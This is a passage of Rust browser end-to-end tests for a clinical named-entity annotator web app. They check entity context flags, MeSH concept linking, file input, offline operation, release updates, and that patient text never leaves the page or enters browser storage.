    for ((text, context, spoken), (want_text, want_context, why)) in marks.iter().zip(expected) {
        assert_eq!((text.as_str(), context.as_str()), (want_text, want_context));
        assert!(
            spoken.starts_with(&format!("{want_text}: Disease · {why} · ")),
            "{spoken}"
        );
    }
    let counts = browser
        .client()
        .find(Locator::Css(".panel .context-counts"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(
        counts,
        "0 present · 1 negated · 3 possible, historical or not the patient's"
    );

    // The context filter hides negated entities, and showing them again brings them back.
    let negated = "document.querySelector(\"input[data-context='negated']\").click();";
    browser.client().execute(negated, vec![]).await.unwrap();
    let shown = browser.marks().await;
    assert_eq!(
        shown.iter().map(|m| m.1.as_str()).collect::<Vec<_>>(),
        ["stroke", "breast cancer", "myocardial infarction"]
    );
    browser.client().execute(negated, vec![]).await.unwrap();
    assert_eq!(browser.marks().await.len(), expected.len());

    browser.capture_exports().await;
    let exported = browser.export("button.export-json").await;
    let document: serde_json::Value = serde_json::from_str(&exported).unwrap();
    let rows: Vec<(&str, bool, &str, &str, &str)> = document["entities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let field = |name: &str| e[name].as_str().unwrap();
            (
                field("text"),
                e["negated"].as_bool().unwrap(),
                field("certainty"),
                field("temporality"),
                field("experiencer"),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("headache", true, "certain", "recent", "patient"),
            ("stroke", false, "certain", "historical", "patient"),
            ("breast cancer", false, "certain", "recent", "family"),
            (
                "myocardial infarction",
                false,
                "possible",
                "recent",
                "patient"
            ),
        ]
    );
}

/// Two names of one drug, and a condition.
const CONCEPT_NOTE: &str = "Coumadin was stopped; warfarin restarted. She denies headache.";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_entities_carry_their_mesh_concept_and_one_concept_is_one_panel_row() {
    let (_server, browser) = open_app().await;
    browser
        .wait_for(".status .concepts[data-state='ready']", READY_TIMEOUT)
        .await;
    browser.paste_text(CONCEPT_NOTE).await;
    let marks = browser.annotated(CONCEPT_NOTE).await;
    let found: Vec<(&str, &str)> = marks
        .iter()
        .map(|(t, l, _)| (t.as_str(), l.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("Coumadin", "Chemical"),
            ("warfarin", "Chemical"),
            ("headache", "Disease")
        ]
    );
    for ((_, _, title), concept) in
        marks
            .iter()
            .zip(["D014859 Warfarin", "D014859 Warfarin", "D006261 Headache"])
    {
        assert!(title.ends_with(&format!(" · MeSH {concept}")), "{title}");
    }

    let script = "return [...document.querySelectorAll('.panel button.unique')].map(b => \
                  [b.querySelector('.entity').textContent, Number(b.querySelector('.count').textContent), \
                   b.querySelector('.forms')?.textContent ?? '', b.querySelector('.concept')?.textContent ?? '']);";
    let panel: Vec<(String, usize, String, String)> =
        serde_json::from_value(browser.client().execute(script, vec![]).await.unwrap()).unwrap();
    assert_eq!(
        panel,
        [
            (
                "Coumadin".into(),
                2,
                "also warfarin".into(),
                "D014859 Warfarin".into()
            ),
            (
                "headache".into(),
                1,
                String::new(),
                "D006261 Headache".into()
            ),
        ]
    );

    browser.capture_exports().await;
    let exported = browser.export("button.export-json").await;
    let document: serde_json::Value = serde_json::from_str(&exported).unwrap();
    let ids: Vec<&str> = document["entities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["concept_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["D014859", "D014859", "D006261"]);
    let ann = browser.export("button.export-brat").await;
    let references: Vec<&str> = ann.lines().filter(|l| l.starts_with('N')).collect();
    assert_eq!(
        references,
        [
            "N1\tReference T1 MESH:D014859\tWarfarin",
            "N2\tReference T2 MESH:D014859\tWarfarin",
            "N3\tReference T3 MESH:D006261\tHeadache",
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_text_file_can_be_opened_or_dropped_and_other_files_are_refused() {
    let (_server, browser) = open_app().await;

    let note = browser.profile.join("note.txt");
    std::fs::write(&note, SENTENCE).unwrap();
    let input = browser
        .client()
        .find(Locator::Css("input#file"))
        .await
        .unwrap();
    input.send_keys(note.to_str().unwrap()).await.unwrap();
    let marks = browser.annotated(SENTENCE).await;
    assert!(!marks.is_empty());
    let value = browser.input_value().await;
    assert_eq!(value, json!(SENTENCE));

    // Dropping a file on the text box reads it the same way.
    let dropped = "Haloperidol caused tardive dyskinesia.";
    browser.client().execute(
        "const transfer = new DataTransfer(); \
         transfer.items.add(new File([arguments[0]], 'dropped.txt', { type: 'text/plain' })); \
         document.querySelector('#input').dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));",
        vec![json!(dropped)],
    ).await.unwrap();
    let marks = browser.annotated(dropped).await;
    assert!(
        marks
            .iter()
            .any(|(t, l, _)| t == "Haloperidol" && l == "Chemical"),
        "{marks:?}"
    );
    assert_eq!(browser.input_value().await, json!(dropped));

    let image = browser.profile.join("scan.png");
    std::fs::write(&image, [0x89, b'P', b'N', b'G']).unwrap();
    let input = browser
        .client()
        .find(Locator::Css("input#file"))
        .await
        .unwrap();
    input.send_keys(image.to_str().unwrap()).await.unwrap();
    let error = browser
        .wait_for(".file-error", Duration::from_secs(10))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        error.contains("scan.png is not a plain-text file"),
        "{error}"
    );
    let value = browser.input_value().await;
    assert_eq!(
        value,
        json!(dropped),
        "a refused file leaves the text alone"
    );
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_long_text_streams_in_while_the_page_stays_usable() {
    let (_server, browser) = open_app().await;
    // Main-thread tasks over 50 ms, reported (not asserted: timings on a busy 2-core box vary).
    browser.client().execute(
        "window.__longest = 0; new PerformanceObserver((list) => { for (const e of list.getEntries()) \
         window.__longest = Math.max(window.__longest, e.duration); }).observe({ type: 'longtask', buffered: false });",
        vec![],
    ).await.unwrap();

    let paragraph = "Cisplatin-induced nephrotoxicity was seen in patients treated for lung cancer. \
                     Haloperidol may cause tardive dyskinesia, and aspirin can cause gastric bleeding.\n";
    let long = paragraph.repeat(50_000 / paragraph.len() + 1);
    assert!(long.chars().count() >= 50_000);
    let started = Instant::now();
    browser.paste_text(&long).await;
    // Results stream in: the run is seen part-way, with a progress bar.
    let progress = browser
        .wait_for(".stats.running progress", Duration::from_secs(60))
        .await;
    let first = progress.attr("value").await.unwrap().unwrap_or_default();
    browser
        .wait_for(
            ".annotated[data-state='running'] mark",
            Duration::from_secs(60),
        )
        .await;

    // Typing works while it runs, and the edit supersedes the running annotation.
    let extra = " Aspirin.";
    let input = browser
        .client()
        .find(Locator::Css("textarea#input"))
        .await
        .unwrap();
    input.send_keys(extra).await.unwrap();
    let value = browser.input_value().await;
    let value = value.as_str().unwrap().to_string();
    assert!(
        value.ends_with(extra),
        "the keystrokes did not arrive: …{:?}",
        &value[value.len() - 20..]
    );
    let still_running = browser
        .client()
        .find_all(Locator::Css(".annotated[data-state='running']"))
        .await
        .unwrap();

    let marks = browser.annotated(&value).await;
    let elapsed = started.elapsed();
    assert!(
        marks.len() > 1000,
        "{} highlights in {} characters",
        marks.len(),
        value.len()
    );
    assert!(marks.iter().filter(|m| m.0 == "Haloperidol").count() > 100);
    let longest = browser
        .client()
        .execute("return window.__longest;", vec![])
        .await
        .unwrap();
    println!(
        "50k characters: first progress value {first}%, typed while running: {}, {} highlights, \
         {:.1} s to the end, longest main-thread task {longest} ms",
        !still_running.is_empty(),
        marks.len(),
        elapsed.as_secs_f64()
    );
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_works_offline_after_one_visit_and_is_installable() {
    let server = serve(dist());
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();
    let ready = browser
        .wait_for(".status .ready", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(ready.contains("Works offline"), "{ready}");
    browser.wait_for_service_worker().await;

    // Chromium finds the manifest and nothing that stops installation.
    let manifest = browser.cdp("Page.getAppManifest", json!({})).await;
    assert_eq!(manifest["errors"], json!([]), "{manifest}");
    assert!(
        manifest["url"]
            .as_str()
            .unwrap_or_default()
            .ends_with("manifest.webmanifest"),
        "{manifest}"
    );
    let installability = browser.cdp("Page.getInstallabilityErrors", json!({})).await;
    assert_eq!(
        installability["installabilityErrors"],
        json!([]),
        "{installability}"
    );

    // Network off: the server drops every connection and the browser is offline.
    server.set(OFFLINE);
    browser.cdp("Network.enable", json!({})).await;
    browser.cdp(
        "Network.emulateNetworkConditions",
        json!({ "offline": true, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1 }),
    ).await;
    let before = server.requests().len();
    browser.client().refresh().await.unwrap();
    let ready = browser
        .wait_for(".status .ready", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
    browser.type_text(SENTENCE).await;
    let marks = browser.annotated(SENTENCE).await;
    let found: Vec<(&str, &str)> = marks
        .iter()
        .map(|(t, l, _)| (t.as_str(), l.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("Cisplatin", "Chemical"),
            ("nephrotoxicity", "Disease"),
            ("lung cancer", "Disease")
        ]
    );
    // Only the browser's own update check for the service worker script may try the network (and get
    // no answer); the page, the app and the model all came from the cache.
    let reached = &server.requests()[before..];
    assert!(
        reached
            .iter()
            .all(|r| r.service_worker_script && r.target == "/sw.js"),
        "offline, yet the page asked for {reached:?}"
    );
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_new_release_is_offered_and_replaces_the_old_cache() {
    let (server, browser) = open_app().await;
    browser.wait_for_service_worker().await;
    let cache_names = "const done = arguments[arguments.length - 1]; caches.keys().then(done);";
    let before = browser
        .client()
        .execute_async(cache_names, vec![])
        .await
        .unwrap();
    let old: Vec<String> = serde_json::from_value(before).unwrap();
    assert_eq!(old.len(), 1, "{old:?}");
    assert!(browser
        .client()
        .find_all(Locator::Css(".update"))
        .await
        .unwrap()
        .is_empty());

    // A new release: the next visit finds a changed service worker, which installs behind the old one.
    server.new_release.store(true, Ordering::SeqCst);
    browser.client().refresh().await.unwrap();
    let offer = browser
        .wait_for(".update", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        offer.contains("A new version of Medlight is ready"),
        "{offer}"
    );
    browser
        .client()
        .find(Locator::Css(".update button.reload"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();

    // The page reloads under the new version, whose cache is the only one left.
    let started = Instant::now();
    loop {
        // A script that runs while the page reloads is cut off by the navigation: ask again.
        let names: Vec<String> = match browser.client().execute_async(cache_names, vec![]).await {
            Ok(value) => serde_json::from_value(value).unwrap(),
            Err(_) => Vec::new(),
        };
        if names.len() == 1 && names[0].starts_with("medlight-next-") {
            break;
        }
        assert!(
            started.elapsed() < READY_TIMEOUT,
            "caches after the update: {names:?} (before: {old:?})"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    browser.wait_for(".status .ready", READY_TIMEOUT).await;
    assert!(browser
        .client()
        .find_all(Locator::Css(".update"))
        .await
        .unwrap()
        .is_empty());
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_no_request_carries_the_text_and_nothing_stores_it() {
    let server = serve(dist());
    let browser = browser().await;
    browser.requests_seen().await; // the browser's own start page, before ours
    browser.client().goto(&server.url).await.unwrap();
    browser.wait_for(".status .ready", READY_TIMEOUT).await;
    // The worker fetches the concept index after the model: wait for it too.
    browser
        .wait_for(".status .concepts[data-state='ready']", READY_TIMEOUT)
        .await;
    let at_ready = server.requests().len();
    let loading = browser.requests_seen().await;
    assert!(
        !loading.is_empty(),
        "the performance log saw no requests at all"
    );

    let secret = "Kowalczyk48213";
    let note =
        format!("Patient {secret} developed hepatotoxicity after cisplatin. Café 💊 {secret}.");
    browser.type_text(&note).await;
    browser.annotated(&note).await;
    browser
        .paste_text(&format!(
            "{note}\nSecond {secret} note: aspirin and nausea."
        ))
        .await;
    browser
        .wait_for(".annotated[data-state='done']", Duration::from_secs(60))
        .await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    let after_ready = browser.requests_seen().await;
    let all = server.requests();

    // Every network request, from page load to the end of the session, went to this origin (data:,
    // blob: and the browser's own chrome:// pages never leave the machine)...
    let origin = server.url.trim_end_matches('/');
    for (url, _) in loading.iter().chain(&after_ready) {
        let network = ["http:", "https:", "ws:", "wss:", "ftp:"]
            .iter()
            .any(|scheme| url.starts_with(scheme));
        assert!(
            !network || url.starts_with(origin),
            "request to another origin: {url}"
        );
    }
    assert!(
        loading
            .iter()
            .any(|(url, _)| url.ends_with("medlight_bg.wasm")),
        "the log missed the page's requests"
    );
    // ...none was made by the app once the model was ready (the browser itself may check the service
    // worker script for updates: that is how a new version is found, and it carries nothing of ours)...
    assert!(
        after_ready.is_empty(),
        "requests after the model was ready: {after_ready:?}"
    );
    let late: Vec<&Logged> = all[at_ready..]
        .iter()
        .filter(|r| !(r.service_worker_script && r.target == "/sw.js"))
        .collect();
    assert!(
        late.is_empty(),
        "the server got requests after the model was ready: {late:?}"
    );
    // ...and none carried the text, in its URL or its body.
    for (url, body) in loading.iter().chain(&after_ready) {
        assert!(
            !url.contains(secret) && !body.contains(secret),
            "{url} carried the text"
        );
    }
    for request in &all {
        assert!(
            !request.target.contains(secret),
            "{} {} carried the text",
            request.method,
            request.target
        );
        assert!(
            !String::from_utf8_lossy(&request.body).contains(secret),
            "{} body carried the text",
            request.target
        );
        assert_eq!(request.method, "GET", "{request:?}");
    }

    // Nothing in the browser's storage holds the text.
    let storage = browser.client().execute_async(
        "const [secret, done] = [arguments[0], arguments[arguments.length - 1]];
         (async () => {
           const found = [];
           for (const [name, store] of [['localStorage', localStorage], ['sessionStorage', sessionStorage]])
             for (let i = 0; i < store.length; i++)
               if ((store.key(i) + store.getItem(store.key(i))).includes(secret)) found.push(name);
           if (document.cookie.includes(secret)) found.push('cookie');
           const databases = await indexedDB.databases();
           for (const info of databases) {
             const db = await new Promise((ok, err) => { const r = indexedDB.open(info.name); r.onsuccess = () => ok(r.result); r.onerror = err; });
             for (const store of db.objectStoreNames) {
               const all = await new Promise((ok) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => ok(r.result); });
               if (JSON.stringify(all).includes(secret)) found.push('indexedDB ' + info.name + '/' + store);
             }
           }
           let cached = 0;
           for (const name of await caches.keys()) {
             const cache = await caches.open(name);
             for (const request of await cache.keys()) {
               cached += 1;
               const body = await (await cache.match(request)).text();
               if (request.url.includes(secret) || body.includes(secret)) found.push('cache ' + request.url);
             }
           }
           done({ found, databases: databases.length, cached, localStorage: localStorage.length, cookies: document.cookie });
         })().catch((e) => done({ error: String(e) }));",
        vec![json!(secret)],
    ).await.unwrap();
    assert_eq!(storage["found"], json!([]), "{storage}");
    assert!(
        storage["cached"].as_u64().unwrap_or(0) > 0,
        "the offline copy should be in the cache: {storage}"
    );

    // The browser-wide network log (page, worker, service worker) saw this origin only.
    let requests = browser.close_and_read_netlog().await;
    let ours: Vec<&String> = requests
        .iter()
        .filter(|(initiator, _)| initiator == origin)
        .map(|(_, url)| url)
        .collect();
    // This Chromium has relaxed SIMD: the page runs, and the service worker caches, that build only.
    assert!(
        ours.iter().any(|u| u.ends_with("/worker_relaxed_bg.wasm")),
        "the network log missed the worker: {requests:?}"
    );
    assert!(
        !ours.iter().any(|u| u.ends_with("/worker_bg.wasm")),
        "the baseline worker was fetched too: {ours:?}"
    );
    assert!(
        ours.iter()
            .any(|u| u.ends_with("/models/medlight-q8_0.safetensors")),
        "the network log missed the model"
    );
    for url in ours {
        assert!(
            url.starts_with(origin),
            "the app contacted another origin: {url}"
        );
    }
    for (_, url) in &requests {
        assert!(!url.contains(secret), "{url} carried the text");
    }
}

/// The page's Content-Security-Policy allows only same-origin code, so the built page must carry
/// it and must not rely on inline scripts (Trunk's default initialiser is one; `public/boot.js`
/// replaces it). That the app then boots under this policy is what the tests above show.
#[test]
fn e2e_built_page_has_the_csp_and_no_inline_scripts() {
    let html = std::fs::read_to_string(dist().join("index.html")).unwrap();
    assert!(
        html.contains("http-equiv=\"Content-Security-Policy\"")
            && html.contains("default-src 'self'"),
        "dist/index.html lacks the Content-Security-Policy"
    );
    for script in html.split("<script").skip(1) {
        let tag = &script[..script.find('>').unwrap()];
        assert!(
            tag.contains("src="),
            "inline <script{tag}> would be blocked by the policy"
        );
        let body = &script[script.find('>').unwrap() + 1..script.find("</script>").unwrap()];
        assert!(body.trim().is_empty(), "inline script body: {body}");
    }
    assert!(
        !html.contains(" style=\""),
        "inline styles would be blocked by style-src 'self'"
    );
}
